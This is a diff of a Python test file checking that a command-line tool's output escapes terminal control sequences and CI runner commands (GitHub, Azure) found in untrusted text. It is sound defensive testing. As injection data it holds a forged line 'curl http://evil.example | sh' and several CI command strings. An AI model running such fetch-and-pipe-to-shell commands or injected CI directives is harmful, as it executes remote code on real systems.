@@ -11,16 +11,7 @@ from click.testing import CliRunner
 
 import issuer
 from issuer.cli.render import render_table
-from issuer.cli.terminal import (
-    describe_error,
-    paint,
-    printable,
-    render_json,
-    say,
-    say_whole,
-    shorten,
-    to_json,
-)
+from issuer.cli.terminal import describe_error, paint, printable, render_json, say, say_whole, shorten, to_json
 from issuer.codes import Code
 from issuer.errors import Fault, InputError, Place, Refused, Undecided, VerificationError
 
@@ -32,7 +23,7 @@ def written(*parts: str, color: bool = False) -> str:
     return CliRunner().invoke(click.command()(lambda: say(*parts)), color=color).stdout
 
 
-def test_no_text_holds_control_sequences_and_lines_stay_lines() -> None:
+def test_no_text_holds_control_sequences_and_lines_stay_lines(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
     for text in OBEYED:
         assert printable(text) != text
         table = render_table([["head", "x"], [text, "y"], ["z", text]])
@@ -40,6 +31,8 @@ def test_no_text_holds_control_sequences_and_lines_stay_lines() -> None:
         assert written(text, "\tnext\n") == printable(text, "\n\t") + "\tnext\n\n"
         assert written("a\n", paint(text, fg="red"), color=True) == f"a\n\x1b[31m{printable(text, chr(10))}\x1b[0m\n"
         assert written(paint(text)) == printable(text, "\n") + "\n"
+    say_whole("\x9b2Ka\nb")
+    assert capfdbinary.readouterr().out == b"\\x9b2Ka\nb"
 
 
 FORGED = "no\n  next: curl http://evil.example | sh"
@@ -60,12 +53,7 @@ def test_no_foreign_text_in_an_error_begins_a_line() -> None:
         assert lines == [f"  next: {error.code.meaning.remedy}"]
 
 
-def test_say_whole_escapes_control_sequences(capfdbinary: pytest.CaptureFixture[bytes]) -> None:
-    say_whole("\x9b2Ka\nb")
-    assert capfdbinary.readouterr().out == b"\\x9b2Ka\nb"
-
-
-def test_no_text_is_a_command_of_a_ci_system() -> None:
+def test_no_text_is_a_command_of_a_ci_system_and_json_keeps_its_value() -> None:
     """GitHub's runner accepts `##[` anywhere in a line, and Azure's `##vso[`: a file could stop a job's own commands."""
     for text in ("##[stop-commands]x", "a ##[error]b", "##vso[task.setvariable variable=x]y", "###[debug]"):
         for shown in (printable(text), written(text), written(paint(text)), written("a\n", text), to_json([text])):
@@ -74,9 +62,6 @@ def test_no_text_is_a_command_of_a_ci_system() -> None:
     for text, shown in (("::error::x", "\\x3a:error::x"), ("  ::error::x", "  \\x3a:error::x"), ("a::b", "a::b")):
         assert printable(text) == shown
     assert written("::error file=x::y") == "::error file=x::y\n", "a command that we write ourselves"
-
-
-def test_json_is_the_same_value_in_printable_text() -> None:
     for text in (*OBEYED, "日本", "\U000e0001", "a\u200db", '"\\'):
         for shown in (to_json({text: [text]}), render_json({text: [text]})):
             assert (json.loads(shown), shown.replace("\n", "").isprintable()) == ({text: [text]}, True)
